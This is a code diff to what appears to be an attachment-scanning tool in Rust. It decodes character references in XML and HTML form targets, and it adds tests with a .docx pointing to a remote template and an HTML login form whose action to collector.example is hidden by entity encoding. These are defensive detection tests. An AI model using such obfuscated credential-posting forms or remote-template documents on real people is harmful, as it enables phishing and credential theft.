@@ -1752,12 +1752,10 @@ fn attr<'t>(tag: &'t str, name: &str) -> Option<&'t str> {
     None
 }
 
+/// XML's references decoded (numeric ones too: `&#104;ttp`), as
+/// [`indicators::decode_entities`] does for HTML.
 fn unescape_xml(s: &str) -> String {
-    s.replace("&lt;", "<")
-        .replace("&gt;", ">")
-        .replace("&quot;", "\"")
-        .replace("&apos;", "'")
-        .replace("&amp;", "&")
+    indicators::decode_entities(s)
 }
 
 // ---------------------------------------------------------------------------
@@ -3069,27 +3067,21 @@ fn html(doc: &mut Found, links: &mut Vec<Link>, shown: &str, b: &[u8], max_scan:
     for l in found.iter().filter(|l| matches!(l.from, "a" | "form")) {
         doc_link(links, &l.url, l.text.as_deref(), l.from);
     }
-    let s = text.to_ascii_lowercase();
-    let mut i = 0;
-    while let Some(p) = s.get(i..).and_then(|r| r.find("<form")) {
-        let at = i + p;
-        let end = s[at..].find('>').map_or(s.len(), |e| at + e);
-        i = end.max(at + 5);
-        let Some(action) = attr(&s[at..end], "action") else {
-            continue;
-        };
-        let a = action.trim();
+    // Forms' targets as `html_links` read them (references decoded).
+    for l in found.iter().filter(|l| l.from == "form") {
+        let a = l.url.to_ascii_lowercase();
         if a.starts_with("http:") || a.starts_with("https:") || a.starts_with("//") {
             doc.add(
                 "attach.html_form_external",
                 6,
                 format!(
                     "{shown} has a form that sends what is typed to {}",
-                    clip(a, 120)
+                    clip(&l.url, 120)
                 ),
             );
         }
     }
+    let s = text.to_ascii_lowercase();
     let has = |n: &str| s.contains(n);
     if ["type=\"password\"", "type='password'", "type=password"]
         .iter()
@@ -3850,6 +3842,19 @@ mod tests {
             "{}",
             e.words
         );
+        // Numeric references in the target are XML too.
+        let coded =
+            String::from_utf8_lossy(rels).replace("https://templates", "&#104;ttps://templates");
+        let r = inspect(&att(
+            "offer.docx",
+            &docx(&[m("word/_rels/settings.xml.rels", coded.as_bytes())]),
+        ));
+        let e = r.get("attach.remote_template").expect("the coded target");
+        assert!(
+            e.words.contains("https://templates.example/t.dotm"),
+            "{}",
+            e.words
+        );
         assert!(
             r.get("attach.external_object").is_none(),
             "hyperlinks are not evidence"
@@ -4109,6 +4114,17 @@ mod tests {
             .unwrap()
             .words
             .contains("collector.example"));
+        // A target written with character references, as a browser reads it.
+        let coded = b"<html><form method=post action=\"http&colon;&sol;&sol;c&#111;llector.example/p\"><input name=u></form></html>";
+        let r = inspect(&att("login.html", coded));
+        let e = r
+            .get("attach.html_form_external")
+            .expect("the coded target");
+        assert!(
+            e.words.contains("http://collector.example/p"),
+            "{}",
+            e.words
+        );
     }
 
     #[test]
